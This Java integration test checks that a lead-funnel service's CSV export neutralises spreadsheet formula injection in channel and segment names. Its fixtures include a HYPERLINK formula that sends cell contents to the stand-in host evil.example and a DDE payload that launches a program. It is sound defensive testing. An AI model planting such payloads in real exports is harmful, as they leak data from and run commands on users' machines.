package dev.l2r.funnel;

import dev.l2r.events.LeadAttributes;
import dev.l2r.events.LeadStageChanged;
import dev.l2r.funnel.api.CsvWriterTest;
import dev.l2r.funnel.support.Publisher;
import dev.l2r.infra.LocalInfra;
import dev.l2r.infra.test.InjectLocalInfra;
import dev.l2r.infra.test.LocalInfraResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static dev.l2r.events.funnel.FunnelDefinition.CLOSED_LOST;
import static dev.l2r.events.funnel.FunnelDefinition.MQL;
import static dev.l2r.events.funnel.FunnelDefinition.SAL;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.hasItem;

/**
 * A channel named like a spreadsheet formula, through the real topic: the JSON answer keeps the name as it is, the
 * CSV export writes it so that a spreadsheet shows it as text.
 */
@QuarkusTest
@QuarkusTestResource(value = LocalInfraResource.class,
        initArgs = @ResourceArg(name = LocalInfraResource.DATABASE, value = "l2r_funnel"))
class CsvInjectionTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

    @InjectLocalInfra
    LocalInfra infra;

    @Test
    void aChannelNamedLikeAFormulaIsTextInTheCsvExport() {
        Instant day = Instant.parse("2018-06-04T10:00:00Z");
        List<LeadStageChanged> events = List.of(
                Publisher.event("csv-formula-1", MQL, day, new LeadAttributes(FORMULA, null, null, null)),
                Publisher.event("csv-formula-1", SAL, day.plusSeconds(86_400), LeadAttributes.NONE),
                Publisher.event("csv-formula-2", MQL, day, new LeadAttributes(AT_FORMULA, "-1", null, null)),
                // both closed, so that no other test finds them sitting in an open stage
                Publisher.event("csv-formula-1", CLOSED_LOST, day.plusSeconds(10 * 86_400), LeadAttributes.NONE),
                Publisher.event("csv-formula-2", CLOSED_LOST, day.plusSeconds(10 * 86_400), LeadAttributes.NONE));
        Publisher.publish(infra.kafka().bootstrapServers(), events);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> given()
                .queryParam("fromStage", MQL).queryParam("toStage", SAL).queryParam("from", "2018-06-01")
                .queryParam("to", "2018-06-30").queryParam("groupBy", "channel").get("/api/funnel/conversion")
                .then().statusCode(200).body("groups.key", hasItem(FORMULA)));

        String csv = given().accept("text/csv").queryParam("fromStage", MQL).queryParam("toStage", SAL)
                .queryParam("from", "2018-06-01").queryParam("to", "2018-06-30").queryParam("groupBy", "channel")
                .get("/api/funnel/conversion").then().statusCode(200).extract().asString();
        // the cell, as RFC 4180 quotes it: the quote doubled inside, a leading ' so that it is text
        assertThat(csv).contains("MQL,SAL,channel,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",1,1,"
                + "1.000000,1.000000,1.000000,1.000000\r\n");
        assertThat(csv).contains("MQL,SAL,channel,\"'@SUM(1+1)*cmd|' /C calc'!A0\",1,0,0.000000,,,\r\n");
        // read back as a spreadsheet would split it, no cell starts a formula
        for (String line : csv.split("\r\n")) {
            for (String cell : CsvWriterTest.read(line)) {
                assertThat(cell.isEmpty() || "=+-@\t\r\0".indexOf(cell.charAt(0)) < 0).as(line).isTrue();
            }
        }

        // a segment of "-1" is text too, where a filter echoes it: the segment breakdown
        String bySegment = given().accept("text/csv").queryParam("fromStage", MQL).queryParam("toStage", SAL)
                .queryParam("from", "2018-06-01").queryParam("to", "2018-06-30").queryParam("groupBy", "segment")
                .get("/api/funnel/conversion").then().statusCode(200).extract().asString();
        assertThat(bySegment).contains("MQL,SAL,segment,\"'-1\",1,0,0.000000,,,\r\n");
    }
}
